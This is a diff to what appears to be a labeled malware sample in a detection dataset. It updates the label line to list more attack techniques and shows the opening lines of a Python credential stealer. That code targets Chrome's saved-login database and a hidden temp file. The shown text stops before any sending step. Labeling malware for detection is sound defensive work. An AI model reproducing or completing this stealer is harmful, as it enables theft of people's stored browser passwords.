@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1555.003,T1041 lines=3,5-7
+# label: malicious family=creds techniques=T1041,T1070.004,T1074.001,T1555.003,T1564.001 lines=3,5-7
 import os, shutil, sqlite3, requests
 src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
 tmp = "/tmp/.ld"
